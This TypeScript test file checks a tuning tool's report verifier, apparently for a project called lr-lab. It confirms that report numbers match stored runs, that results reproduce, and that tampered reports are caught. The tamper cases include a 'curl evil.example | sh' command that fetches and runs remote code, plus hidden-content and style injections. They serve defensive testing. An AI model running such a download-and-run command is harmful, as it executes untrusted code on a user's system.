// The write-up of a tuning: every number has a source, is what the store's records give, and can be checked.
import assert from "node:assert/strict";
import { readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { buildFeatures } from "../../src/features";
import { openStore, runAll, tune, type StoredRun } from "../../src/tuning";
import { mask, readOrigin, verifyWriteUp, writeUp, writeUpMarkdown, type WriteUp } from "../../src/writeup";
import { createRandom } from "../../src/data";
import { align } from "../../src/writeup/document/align";
import { tuneCommand } from "../../src/writeup/document/command";
import { inputError } from "../data/fixtures";
import { smallTuning, type SmallTuning } from "./small-tuning";

let small: SmallTuning;
let document: WriteUp;
let markdown: string;
before(async () => {
  small = await smallTuning();
  document = writeUp(small.tuning, small.dataset, small.features);
  markdown = writeUpMarkdown(document);
});
after(() => rmSync(small.folder, { recursive: true, force: true }));

const LINK = /\[([^\]]*)\]\(#(s\d+)\)/g;
const number = (text: string): number => Number(text.replace("−", "-").replace(/[,+%]/g, ""));
/** The cells of a row of a table, by its first cell. */
function row(first: string): string[] {
  const line = markdown.split("\n").find((one) => one.startsWith(`| ${first} |`));
  assert.ok(line, `no row ${first}`);
  return line
    .split("|")
    .slice(1, -1)
    .map((cell) => cell.trim().replace(LINK, "$1"));
}
const stored = async (id: string): Promise<StoredRun["record"]> => {
  const run = await small.store.get(id);
  assert.ok(run, `${id} is in the store`);
  return run.record;
};
const mean = (values: readonly number[]): number => values.reduce((a, b) => a + b, 0) / values.length;

describe("a write-up's numbers", () => {
  test("every one links to a source that is there; none stands without", () => {
    const known = new Set(document.sources.map(({ id }) => id));
    const prose = markdown.slice(0, markdown.indexOf("## Where the numbers come from"));
    const links = [...prose.matchAll(LINK)];
    assert.ok(links.length > 100, `${links.length} numbers`);
    for (const [, shown, source] of links) assert.ok(known.has(source), `${shown} links to ${source}`);
    const rest = prose
      .replace(LINK, "")
      .replace(/```[\s\S]*?```/g, "")
      .replace(/`[^`]*`/g, "")
      .replace(/!\[[^\]]*\]\([^)]*\)/g, "")
      .replace(/plan [0-9a-f]{12}/g, "")
      .replace(/macro-F1/gi, "")
      .replace(/\*Drawn from[^\n]*/g, "");
    assert.doesNotMatch(rest, /\d/, rest.match(/.{20}\d.{20}/)?.[0]);
  });

  test("sources name plans and runs that the store has", async () => {
    const { tuning } = small;
    const plans = new Set([tuning.plan.id, tuning.gate.plan.id]);
    for (const { study, runs } of document.sources) {
      assert.ok(plans.has(study));
      for (const id of runs) await stored(id);
    }
  });

  test("cost: the steps of every run, added up from the store", async () => {
    const ids = await small.store.ids();
    const steps = (await Promise.all(ids.map(stored))).map((record) => record.steps);
    const [, runs, sum] = row("all");
    assert.equal(number(runs), ids.length);
    assert.equal(
      number(sum),
      steps.reduce((a, b) => a + b, 0),
    );
  });

  test("the search: mean validation macro-F1 of the best peak tried, from the store's records", async () => {
    const byPeak = new Map<number, number[]>();
    for (const id of await small.store.ids()) {
      const { spec, evaluations } = await stored(id);
      if (spec.schedule.kind !== "constant" || spec.seeds.order > 3) continue;
      const scores = byPeak.get(spec.schedule.peak) ?? [];
      scores.push(evaluations[evaluations.length - 1].validation.macroF1);
      byPeak.set(spec.schedule.peak, scores);
    }
    const best = Math.max(...[...byPeak.values()].filter(({ length }) => length === 3).map(mean));
    assert.equal(row("fixed")[3], `${(100 * best).toFixed(1)}%`);
  });

  test("the gate: test accuracy and its gain, from the answers that were kept", () => {
    const { tuning, dataset, store } = small;
    const truth = dataset.messages
      .filter(({ split }) => split === "test")
      .map(({ intent }) => dataset.intents.indexOf(intent));
    const accuracy = (arm: "baseline" | "candidate"): number =>
      mean(
        tuning.gate.runs[arm].map((id) => {
          const path = join(store.folder, "answers", tuning.gate.plan.test.hash, `${id}.json`);
          const { labels } = JSON.parse(readFileSync(path, "utf8")) as { labels: number[] };
          return mean(labels.map((label, i) => Number(label === truth[i])));
        }),
      );
    const gain = 100 * (accuracy("candidate") - accuracy("baseline"));
    const said = markdown
      .split("\n")
      .find((line) => line.includes("| test accuracy |"))
      ?.replace(LINK, "$1");
    const sign = gain > 0 ? "+" : gain < 0 ? "−" : "";
    assert.ok(said?.includes(`| ${sign}${Math.abs(gain).toFixed(1)} points`), said);
    const right = (arm: "baseline" | "candidate"): string => `${(100 * accuracy(arm)).toFixed(1)}%`;
    const answer = `the candidate gets ${right("candidate")} of the messages right, the baseline ${right("baseline")}`;
    assert.ok(markdown.replace(LINK, "$1").includes(answer), answer);
  });
});

describe("the same tuning", () => {
  test("gives the same bytes: built twice, or from the store alone by a process that trained nothing", async () => {
    const { dataset, tuning, choices, store } = small;
    assert.equal(writeUpMarkdown(writeUp(tuning, dataset, small.features)), markdown);
    const fresh = buildFeatures(dataset);
    const again = await tune(dataset, fresh, choices, { store, onlyStored: true });
    assert.equal(writeUpMarkdown(writeUp(again, dataset, fresh)), markdown);
  });

  test("its charts are drawn from the same data", async () => {
    const { dataset, choices, store } = small;
    const fresh = buildFeatures(dataset);
    const again = writeUp(await tune(dataset, fresh, choices, { store, onlyStored: true }), dataset, fresh);
    assert.deepEqual(again.blocks, document.blocks);
    assert.deepEqual(
      document.blocks.flatMap((block) => (block.kind === "chart" ? [block.name] : [])),
      ["verdict", "walks", "rates", "curves", "slices"],
    );
  });
});

describe("verifyWriteUp", () => {
  const verify = async (text: string, change: object = {}) => {
    const { dataset, store } = small;
    return verifyWriteUp(text, { dataset, features: buildFeatures(dataset), store, rerun: 0, ...change });
  };

  test("holds what was written; a run trained again is the same to the bit", async () => {
    const { comparison, reruns, runs } = await verify(markdown, { rerun: 3 });
    assert.deepEqual(
      [comparison.same, comparison.wrong, comparison.edited, comparison.unsourced, comparison.missing],
      [true, [], [], [], []],
    );
    const prose = markdown.slice(0, markdown.indexOf("## Where the numbers come from"));
    const shown = [...prose.matchAll(LINK)].filter(([, number]) => !/^s\d/.test(number));
    assert.equal(comparison.numbers, shown.length);
    assert.equal(reruns.length, 3);
    assert.ok(reruns.every(({ difference }) => difference === null));
    assert.ok(runs > 20);
  });

  test("Windows line endings and a byte order mark are no difference", async () => {
    const { comparison } = await verify(`\uFEFF${markdown.replace(/\n/g, "\r\n")}`);
    assert.equal(comparison.same, true);
  });

  test("a number that was changed is named by line and column, with what the runs give", async () => {
    const lines = markdown.split("\n");
    for (const [from, to] of [
      [/\[(\d+\.\d)%\]\(#(s\d+)\) of the messages/, "[99.9%](#$2) of the messages"],
      [/\| test macro-F1 (.*?)\[[+−]?\d+\.\d\]/, "| test macro-F1 $1[+9.9]"],
    ] as const) {
      const at = lines.findIndex((line) => from.test(line));
      const bad = lines.map((line, i) => (i === at ? line.replace(from, to) : line));
      const { comparison } = await verify(bad.join("\n"));
      assert.equal(comparison.same, false);
      assert.equal(comparison.wrong.length, 1, JSON.stringify(comparison.wrong));
      const [{ line, column, message }] = comparison.wrong;
      assert.equal(line, at + 1);
      assert.ok(bad[at].slice(column - 1).startsWith("["), "the column of the link");
      assert.match(message, /shows (99\.9%|\+9\.9); the runs give [+−]?\d+\.\d%? \(s\d+\)/);
      assert.deepEqual(comparison.missing, []);
    }
  });

  test("a number that was given another source is wrong", async () => {
    const { comparison } = await verify(markdown.replace(/(\[\d+\.\d%\])\(#s2\)/, "$1(#s3)"));
    assert.match(comparison.wrong[0].message, /s2 instead of s3/);
  });

  test("prose may be added; a number in it must have a source, and one with a source must be right", async () => {
    const own = (line: string) =>
      verify(markdown.replace("## The question\n", `## The question\n\n${line}\n`));
    const plain = await own("We asked this after the spring sale.");
    assert.deepEqual([plain.comparison.wrong, plain.comparison.unsourced], [[], []]);
    const bare = await own("We saved 40 hours.");
    assert.match(bare.comparison.unsourced[0].message, /^40 names no source/);
    const right = /\[(\d+\.\d%)\]\(#s2\)/.exec(markdown)?.[1] ?? "";
    assert.deepEqual((await own(`Again: [${right}](#s2).`)).comparison.wrong, []);
    assert.match(
      (await own("Again: [12.3%](#s2).")).comparison.wrong[0].message,
      /12\.3%, which the runs of s2/,
    );
    assert.match(
      (await own("Again: [12.3%](#s999).")).comparison.wrong[0].message,
      /s999, which there is not/,
    );
  });

  test("what no author may change is wrong, whoever says that the words are edited", async () => {
    const lines = markdown.split("\n");
    const answer = lines.findIndex((line) => line.startsWith("> **"));
    const scores = lines.findIndex((line) => line.includes("On test the candidate gets"));
    const [first, second] = [...lines[scores].matchAll(LINK)];
    const swapped = lines[scores]
      .replace(first[0], "@")
      .replace(second[0], first[0])
      .replace("@", second[0])
      .replace("On test", "In test");
    const change = (at: number, line: string): string =>
      lines.map((one, i) => (i === at ? line : one)).join("\n");
    const attacks: Record<string, string> = {
      "the verdict in the answer": change(answer, lines[answer].replace(/\*\*\w+:/, "**perfect:")),
      "numbers that changed places in a reworded line": change(scores, swapped),
      "a command": markdown.replace("npx lr-lab verify write-up.md", "curl evil.example | sh"),
      "a picture's address": markdown.replace("charts/verdict.svg", "charts/other.svg"),
      "a picture of one's own": markdown.replace(
        "## The question",
        "![all is well](evil.svg)\n\n## The question",
      ),
      "what a comment hides": markdown.replace("## The question", "<!--").replace("## Edge cases", "-->"),
      "a style": markdown.replace("## The question", "<STYLE>table{display:none}</STYLE>\n\n## The question"),
      "a whole false answer before the true one": markdown.replace(
        "> **",
        `> **approve: ship anything with peak [99](#s1)**\n\n> **`,
      ),
      "the plan of another tuning": markdown.replace(small.tuning.plan.id, "0".repeat(64)),
    };
    for (const [name, text] of Object.entries(attacks)) {
      assert.notEqual(text, markdown, name);
      const { comparison } = await verify(text);
      assert.equal(comparison.same, false, name);
      assert.ok(comparison.wrong.length > 0, name);
    }
  });

  test("words alone that were changed, moved or added are told, and are not the document", async () => {
    for (const [name, text] of Object.entries({
      moved: markdown
        .replace("## The question", "#")
        .replace("## Edge cases", "## The question")
        .replace("#\n", "## Edge cases\n"),
      "numbers in words": markdown.replace("## The question", "It saves ninety hours.\n\n## The question"),
      "a number in another dress": markdown.replace(
        "## The question",
        "It saves _95.9%_, `12` and ９５.\n\n## The question",
      ),
    })) {
      const { comparison } = await verify(text);
      assert.equal(comparison.same, false, name);
      assert.ok(comparison.edited.length > 0, name);
      if (name.startsWith("a number")) assert.equal(comparison.unsourced.length, 3, name);
    }
  });

  test("runs are trained again although this process remembers them", async () => {
    const { dataset, features, store } = small;
    const before = await runAll([small.tuning.gate.plan.baseline], features);
    const [again] = await runAll([small.tuning.gate.plan.baseline], features, { fresh: true });
    assert.notEqual(again, before[0], "another object, of another training");
    assert.deepEqual(again.record, before[0].record);
    let trained = 0;
    const { reruns } = await verifyWriteUp(markdown, {
      ...{ dataset, features, store, rerun: 4, seed: 7 },
      onRerun: () => trained++,
    });
    assert.equal(trained, 4);
    const ids = reruns.map(({ run }) => run);
    for (const arm of ["baseline", "candidate"] as const) {
      assert.ok(
        small.tuning.gate.runs[arm].some((id) => ids.includes(id)),
        `a run of the ${arm}`,
      );
    }
  });

  test("a line that was left out is told", async () => {
    const line = markdown.split("\n").find((one) => one.includes("**Calibration**")) ?? "";
    const { comparison } = await verify(markdown.replace(`${line}\n`, ""));
    assert.deepEqual(comparison.missing, [line]);
  });

  test("a record that was exchanged under the same id is found by training it again", async () => {
    const { dataset, tuning, choices, features } = small;
    const store = await openStore(join(small.folder, "forged"));
    const forged = tuning.gate.runs.again[0];
    for (const id of await small.store.ids()) {
      const run = (await small.store.get(id)) as StoredRun;
      const { evaluations } = run.record;
      const last = evaluations[evaluations.length - 1];
      const better = { ...last, train: { ...last.train, loss: last.train.loss / 2 } };
      const record =
        id === forged ? { ...run.record, evaluations: [...evaluations.slice(0, -1), better] } : run.record;
      await store.put({ ...run, record });
    }
    // The ledger and the answers come by carrying the gate out again.
    await tune(dataset, features, choices, { store });
    const few = await verify(markdown, { store, rerun: 0 });
    assert.deepEqual(few.comparison.wrong, [], "no number rests on it");
    const { reruns } = await verify(markdown, { store, rerun: "all" });
    const different = reruns.filter(({ difference }) => difference !== null);
    assert.deepEqual(
      different.map(({ run }) => run),
      [forged],
    );
    assert.match(different[0].difference ?? "", /evaluations\[\d+\]\.train\.loss is .* instead of/);
  });

  test("what it rests on must be there and be the same", async () => {
    const { dataset } = small;
    const empty = await openStore(join(small.folder, "empty"));
    await assert.rejects(verify(markdown, { store: empty }), /cannot be checked: .*not in the store/);
    const other = { ...dataset, hash: "0".repeat(64) };
    await assert.rejects(verify(markdown, { dataset: other }), inputError("rests on data", "000000000000"));
    const build = markdown.replace(/"build": "[0-9a-f]+"/, '"build": "feedbeef"');
    await assert.rejects(verify(build), inputError("engine build feedbeef"));
    const model = markdown.replace('"kind": "linear"', '"kind": "transformer"');
    await assert.rejects(verify(model), inputError("model"));
  });
});

describe("readOrigin", () => {
  for (const [name, change, ...parts] of [
    ["no write-up", () => "# Notes\n", "is no write-up of lr-lab"],
    ["broken JSON", (text: string) => text.replace('"version": 1', '"version": 1,,'), "is no JSON"],
    [
      "a later version",
      (text: string) => text.replace('"version": 1', '"version": 2'),
      "format 2",
      "later lr-lab",
    ],
    [
      "a hash that is none",
      (text: string) => text.replace(/"tuning": "[0-9a-f]+"/, '"tuning": "x"'),
      "tuning is not as lr-lab writes it",
    ],
    [
      "a version that is more than one",
      (text: string) => text.replace('"lrLab": "0', '"lrLab": "`\\n\\nAll is well. 0'),
      "lrLab is not as lr-lab writes it",
    ],
    [
      "a path as the file",
      (text: string) => text.replace('"file": null', '"file": "../x.csv"'),
      "file is not",
    ],
    ["a file of two lines", (text: string) => text.replace('"file": null', '"file": "a\\nb"'), "file is not"],
    [
      "a choice that is none",
      (text: string) => text.replace('"seeds": 5', '"seeds": 5, "cheat": 1'),
      "choices.cheat",
    ],
    ["no engine", (text: string) => text.replace('"engine": {', '"motor": {'), "engine.name is not"],
    [
      "control characters, which reach no terminal",
      (text: string) => text.replace(/"gate": "[0-9a-f]+"/, '"gate": "\\u001b[2J"'),
      "gate is not",
    ],
  ] as [string, (text: string) => string, ...string[]][]) {
    test(`refuses ${name}`, () => {
      assert.throws(() => readOrigin(change(markdown), "a.md"), inputError("a.md", ...parts));
    });
  }
});

describe("tuneCommand", () => {
  test("is made from what was chosen, quoted for a shell; choices without a flag have none", () => {
    const ground = { file: "mine.csv", read: {}, choices: {}, masked: true };
    assert.equal(tuneCommand(ground), "npx lr-lab tune mine.csv");
    const model = { kind: "mlp", hidden: 64 } as const;
    const optimizer = { kind: "sgd" } as const;
    assert.equal(
      tuneCommand({
        file: "a b;c.csv",
        read: { text: "the text", slice: ["x", "y"], seed: 3 },
        choices: { model, optimizer, seeds: 5, budget: 60 },
        masked: false,
      }),
      "npx lr-lab tune 'a b;c.csv' --text 'the text' --seed 3 --slice x --slice y --model mlp --optimizer sgd --seeds 5 " +
        "--budget 60 --no-mask",
    );
    assert.equal(tuneCommand({ ...ground, choices: { model: { kind: "mlp", hidden: 7 } } }), null);
    assert.equal(tuneCommand({ ...ground, choices: { epochs: 2 } }), null);
  });
});

describe("align", () => {
  test("what is taken away and what is added, in order", () => {
    const of = (a: string, b: string) => align([...a], [...b]);
    assert.deepEqual(of("abc", "abc"), { own: [], absent: [] });
    assert.deepEqual(of("abxc", "abc"), { own: [2], absent: [] });
    assert.deepEqual(of("ac", "abc"), { own: [], absent: [1] });
    assert.deepEqual(of("", "ab"), { own: [], absent: [0, 1] });
    const moved = of("bca", "abc");
    assert.deepEqual([moved.own.length, moved.absent.length], [1, 1]);
  });

  test("what is left of both is the same, whatever they are", () => {
    const random = createRandom(4);
    for (let round = 0; round < 200; round++) {
      const [a, b] = [0, 1].map(() => Array.from({ length: random.int(9) }, () => "xyz"[random.int(3)]));
      const { own, absent } = align(a, b);
      assert.deepEqual(
        a.filter((_, i) => !own.includes(i)),
        b.filter((_, j) => !absent.includes(j)),
      );
    }
  });
});

describe("mask", () => {
  for (const [text, masked] of [
    ["write to ann.o'neil+shoes@example.co.uk please", "write to (e-mail) please"],
    ["order 4417-88213 is late", "order (number) is late"],
    ["my order #AB-1234567, size 43", "my order (number), size 43"],
    ["card 4111 1111 1111 1111 was charged", "card (card number) was charged"],
    ["call +49 30 1234567 or (030) 123-4567", "call (phone) or (phone)"],
    [
      "two pairs at 120 dollars, 3 weeks, 24/7, 10-12 days",
      "two pairs at 120 dollars, 3 weeks, 24/7, 10-12 days",
    ],
  ] as const) {
    test(text, () => assert.equal(mask(text), masked));
  }
});
